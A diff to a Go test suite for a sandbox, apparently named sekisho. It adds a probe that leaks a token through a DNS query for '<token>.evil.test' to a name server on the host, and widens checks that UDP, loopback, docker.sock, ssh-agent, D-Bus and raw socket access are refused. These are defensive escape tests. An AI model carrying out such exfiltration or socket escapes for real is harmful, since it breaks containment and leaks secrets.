@@ -63,7 +63,7 @@ func (w *world) sockets() {
 }
 
 var attackNetworkCases = []Case{
-	{"AC-43", "getaddrinfo and UDP as a way out", "no packet leaves", in(development, func(w *world) {
+	{"AC-43", "getaddrinfo and UDP as a way out", "no packet leaves", everyNetwork(func(w *world) {
 		if e := w.ear("udp", "127.0.0.1:0"); e != nil {
 			w.refused(w.sends("UDP to the loopback", "udp", e.address, e))
 		}
@@ -71,6 +71,12 @@ var attackNetworkCases = []Case{
 		w.refused(probe{"the host's own address", words("interfaces"), func(_ *layout, o output) bool { return contains(o.Detail, "eth") || contains(o.Detail, "running") }, false})
 		o := w.inside(w.real.Payload, "resolve", "secret.evil.test")
 		w.Check("a name", !o.OK, "%v", o)
+		// A name server of the host, asked by its address.
+		if e := w.ear("udp", "127.0.0.1:0"); e != nil {
+			w.refused(probe{"a name server", func(l *layout) []string { return []string{"dns", e.address, l.Token + ".evil.test"} }, func(l *layout, _ output) bool {
+				return e.has(w.ctx, l.Token)
+			}, false})
+		}
 	})},
 	{"AC-44", "every loopback address in network none", "refused", in(development, func(w *world) {
 		e := w.ear("tcp", "0.0.0.0:0")
@@ -86,8 +92,8 @@ var attackNetworkCases = []Case{
 			w.refused(w.sends("tcp to "+host, "tcp", net.JoinHostPort(host, port), e))
 		}
 	})},
-	{"AC-48", "socket file in a root (docker.sock, ssh-agent, D-Bus)", "refused", in(development, (*world).sockets)},
-	{"AC-50", "abstract socket of the host; signal to a host process", "not reachable", in(development, func(w *world) {
+	{"AC-48", "socket file in a root (docker.sock, ssh-agent, D-Bus)", "refused", everyNetwork((*world).sockets)},
+	{"AC-50", "abstract socket of the host; signal to a host process", "not reachable", everyNetwork(func(w *world) {
 		for network, action := range map[string]string{"unix": "unix", "unixgram": "unix-datagram"} {
 			name := fmt.Sprintf("@sekisho-%s-%s", network, w.real.Token)
 			if e := w.ear(network, name); e != nil {
@@ -107,7 +113,7 @@ var attackNetworkCases = []Case{
 			w.Block("kill a host process", "the control: %v", control)
 		}
 	})},
-	{"AC-51", "other socket families: vsock, packet, raw, alg, netlink netfilter", "refused", in(development, func(w *world) {
+	{"AC-51", "other socket families: vsock, packet, raw, alg, netlink netfilter", "refused", everyNetwork(func(w *world) {
 		var probes []probe
 		for _, s := range []struct {
 			name                   string
